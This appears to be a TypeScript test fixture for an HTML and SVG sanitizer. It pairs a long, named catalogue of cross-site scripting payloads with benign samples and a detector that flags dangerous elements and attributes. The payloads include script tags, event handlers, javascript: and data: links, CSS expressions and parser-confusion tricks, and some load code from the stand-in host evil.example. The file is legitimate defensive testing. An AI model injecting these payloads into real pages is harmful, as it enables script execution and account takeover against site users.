/** What hostile or careless authors write, by name; none of it may leave anything that runs or takes over. */
export const HOSTILE_HTML: readonly (readonly [name: string, html: string])[] = [
  ['a script', '<script>alert(1)</script>'],
  ['a script in upper case with spaces', '<SCRIPT SRC=//evil.example/x.js ></SCRIPT >'],
  ['a script that never closes', '<b>hi<script src=//evil.example/x.js>'],
  ['a script in pieces', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['a script behind a slash', '<script/x>alert(1)</script>'],
  ['a script after a null byte', '<scr\u0000ipt>alert(1)</script>'],
  ['an image with a handler', '<img src=x onerror=alert(1)>'],
  ['an image with a handler behind slashes', '<img/src="x"/onerror="alert(1)">'],
  ['an image with a handler in mixed case', '<IMG SRC=x OnErRoR=alert(1)>'],
  ['a handler behind a broken quote', '<img src="x" title="a" onerror=alert(1) "">'],
  ['a handler behind a line break', '<b\nonmouseover\n=\nalert(1)>x</b>'],
  ['a handler behind a form feed', '<b\u000conclick=alert(1)>x</b>'],
  ['a handler behind backquotes', '<img src=`x` onerror=`alert(1)`>'],
  ['a body with a handler', '<body onload=alert(1)>x</body>'],
  ['details that open', '<details open ontoggle=alert(1)><summary>x</summary></details>'],
  ['a field with focus', '<input autofocus onfocus=alert(1)>'],
  ['a video source with a handler', '<video><source onerror=alert(1)></video>'],
  ['a marquee', '<marquee onstart=alert(1)>x</marquee>'],
  ['a script link', '<a href="javascript:alert(1)">x</a>'],
  ['a script link in mixed case', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['a script link with a tab', '<a href="java&Tab;script:alert(1)">x</a>'],
  ['a script link with line breaks', '<a href="java\n\rscript&colon;alert(1)">x</a>'],
  ['a script link behind control characters', '<a href="&#1;&#14; javascript:alert(1)">x</a>'],
  [
    'a script link in numbers',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
  ],
  [
    'a script link in hex numbers without ends',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;x">x</a>',
  ],
  ['a visual basic link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['a data link', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['a data link in base 64', '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>'],
  ['a script picture', '<img src="javascript:alert(1)">'],
  ['a page as a picture', '<img src="data:text/html,<script>alert(1)</script>">'],
  ['a script in a style', '<span style="background:url(javascript:alert(1))">x</span>'],
  ['a script in an escaped style', '<span style="background:url(java\\73 cript:alert(1))">x</span>'],
  ['an expression in a style', '<span style="width:expression(alert(1))">x</span>'],
  ['an expression in pieces in a style', '<span style="width:ex/**/pression(alert(1))">x</span>'],
  ['a behaviour in a style', '<span style="behavior:url(#x);-moz-binding:url(//evil.example/x)">x</span>'],
  ['a style sheet', '<style>@import "//evil.example/x.css";*{background:url(javascript:alert(1))}</style>'],
  ['a linked style sheet', '<link rel=stylesheet href="//evil.example/x.css">'],
  ['a frame', '<iframe src="//evil.example/"></iframe>'],
  ['a frame with its own page', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['an object', '<object data="data:text/html,x"></object><embed src="//evil.example/x.swf">'],
  ['a form', '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>'],
  ['a meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['a base address', '<base href="javascript:alert(1)//">'],
  ['an svg with a handler', '<svg onload=alert(1)><circle r=1 /></svg>'],
  ['an svg with a script link', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['an svg that sets a link', '<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>'],
  [
    'a page in an svg',
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  ],
  ['text in an svg that is read twice', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['text in maths that is read twice', '<math><mi//xlink:href="data:x,<script>alert(1)</script>">'],
  [
    'text in maths in a form that is read twice',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ],
  ['text of a noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['text of a title', '<title><img title="</title><img src=x onerror=alert(1)>"></title>'],
  ['text of a template', '<template><script>alert(1)</script></template>'],
  ['text of a text area', '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>'],
  ['a comment that ends early', '<!--><img src=x onerror=alert(1)>-->'],
  ['a comment that ends oddly', '<!-- --!><img src=x onerror=alert(1)> -->'],
  ['a character data section', '<![CDATA[<img src=x onerror=alert(1)>]]>'],
  ['a processing instruction', '<?xml version="1.0"?><?php echo "<script>alert(1)</script>"?>'],
  ['an entity for a tag', '&lt;img src=x onerror=alert(1)&gt;<img src=x onerror=alert(1)'],
  ['a title that ends its attribute', '<b title="&quot;><img src=x onerror=alert(1)>">x</b>'],
  ['a sourceset', '<img srcset="javascript:alert(1) 1x, x.jpg 2x">'],
  [
    'a background of old',
    '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x',
  ],
];

export const HOSTILE_SVG: readonly (readonly [name: string, svg: string])[] = [
  ['a handler', '<svg onload="alert(1)"><path d="M0 0" onclick="alert(1)"/></svg>'],
  ['a handler in upper case', '<svg ONLOAD="alert(1)"><path d="M0 0"/></svg>'],
  ['a script', '<svg><script>alert(1)</script><script href="//evil.example/x.js"/></svg>'],
  ['a script in character data', '<svg><![CDATA[<script>alert(1)</script>]]></svg>'],
  ['a link', '<svg><a xlink:href="javascript:alert(1)" href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['a use from elsewhere', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)/>#x"/></svg>'],
  ['an image', '<svg><image href="javascript:alert(1)" onerror="alert(1)"/></svg>'],
  [
    'an animated link',
    '<svg><animate attributeName="href" to="javascript:alert(1)"/><set onbegin="alert(1)"/></svg>',
  ],
  ['a foreign page', '<svg><foreignObject><img src=x onerror=alert(1)><iframe/></foreignObject></svg>'],
  ['a style sheet', '<svg><style>@import "//evil.example/x.css";</style></svg>'],
  ['a script in a style', '<svg><path style="fill:url(javascript:alert(1))" d="M0 0"/></svg>'],
  ['a script in a fill', '<svg><path fill="url(javascript:alert(1))" d="M0 0"/></svg>'],
  ['a title that is read twice', '<svg><title><style><img src=x onerror=alert(1)></style></title></svg>'],
  ['a description that is read twice', '<svg><desc><noscript></desc><img src=x onerror=alert(1)></svg>'],
  ['an end of its own', '<svg></svg><script>alert(1)</script><img src=x onerror=alert(1)>'],
  ['an entity', '<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]><svg>&x;</svg>'],
];

/** HTML that authors do write, and that stays as it is. */
export const GOOD_HTML: readonly string[] = [
  'Plain text, 5 &lt; 6 &amp; 7',
  '<b>bold</b>, <i>italic</i>, <u>under</u>, <strong>strong</strong> and <em>em</em>',
  'one<br>two',
  '<i class="fa-icon-star"></i> stars',
  '<span style="color: #ff0000; font-size: 20px">red</span>',
  '<span style="background: linear-gradient(90deg, #f00, #00f)">gradient</span>',
  '<font color="#ff0000">old</font>',
  '<a href="https://example.com/?a=1&amp;b=2" target="_blank" rel="noopener" title="there">link</a>',
  '<a href="/shop/">shop</a> <a href="#top">top</a> <a href="//example.com/">there</a>',
  '<a href="mailto:a@example.com">mail</a> <a href="tel:+123">call</a>',
  '<ul><li>one</li><li>two<ol><li>deep</li></ol></li></ul>',
  '<h2 dir="rtl" lang="ar">نص</h2><p>text</p>',
  '<img src="https://example.com/a.jpg" alt="a" width="10" height="10">',
  '<img src="data:image/png;base64,AAAA" alt="">',
  '<table><tbody><tr><td colspan="2">cell</td></tr></tbody></table>',
  '<blockquote cite="https://example.com/">quote</blockquote>',
  'nested <b>bold <i>both <span>all</span></i></b>',
];

export const GOOD_SVG: readonly string[] = [
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24" width="24" height="24"><path d="M0 0L24 24" fill="none" stroke="currentColor" stroke-width="2"></path></svg>',
  '<svg viewBox="0 0 10 10"><defs><linearGradient id="g"><stop offset="0" stop-color="#f00"></stop></linearGradient></defs><rect width="10" height="10" fill="url(#g)"></rect></svg>',
  '<svg viewBox="0 0 10 10"><g transform="rotate(45)"><circle cx="5" cy="5" r="4"></circle><text x="1" y="2">a</text></g></svg>',
];

/** What of an element the search for dangers looks at: the DOM's and that of tests alike. */
interface ElementLike {
  readonly localName: string;
  readonly attributes: Iterable<{ readonly name: string; readonly value: string }>;
}
interface RootLike {
  querySelectorAll(selector: string): Iterable<ElementLike>;
}

const DANGEROUS_ELEMENTS = new Set(
  'script,style,link,meta,base,iframe,frame,object,embed,applet,form,input,button,textarea,template,noscript,use,image,animate,set,foreignobject,math'.split(
    ',',
  ),
);
const RUNS_CODE = /javascript:|vbscript:|data:(?!image\/)/i;
const RUNS_IN_STYLE = /javascript:|vbscript:|expression\(|behavior:|-moz-binding|@import/i;

/** Everything below an element that could run code or take the page over, in words. */
export function findDangers(root: RootLike): string[] {
  return [...root.querySelectorAll('*')].flatMap(({ localName, attributes }) => [
    ...(DANGEROUS_ELEMENTS.has(localName.toLowerCase()) ? [`<${localName}>`] : []),
    ...[...attributes].filter(isDangerous).map(({ name, value }) => `<${localName} ${name}="${value}">`),
  ]);
}

function isDangerous({ name, value }: { readonly name: string; readonly value: string }): boolean {
  if (/^on|srcdoc|formaction|^action$|^background$/i.test(name)) return true;
  if (name.toLowerCase() === 'style') return RUNS_IN_STYLE.test(plainCss(value));
  const isAddress = /^(?:href|src|xlink:href|srcset|data|poster|cite|fill|stroke|mask|clip-path)$/i.test(
    name,
  );
  return isAddress && RUNS_CODE.test(withoutGaps(value));
}

/** Browsers skip control characters and spaces in a scheme. */
const withoutGaps = (value: string): string =>
  [...value].filter((letter) => letter > ' ' && letter !== '\u007f').join('');

/** CSS with its comments and spaces taken out and its escapes resolved, as a browser reads it. */
const plainCss = (css: string): string =>
  withoutGaps(
    css
      .replace(/\/\*[\s\S]*?\*\//g, '')
      .replace(/\\([0-9a-f]{1,6})\s?|\\(.)/gi, (_, hex: string | undefined, letter: string | undefined) =>
        hex === undefined ? (letter ?? '') : String.fromCodePoint(Number.parseInt(hex, 16)),
      ),
  );
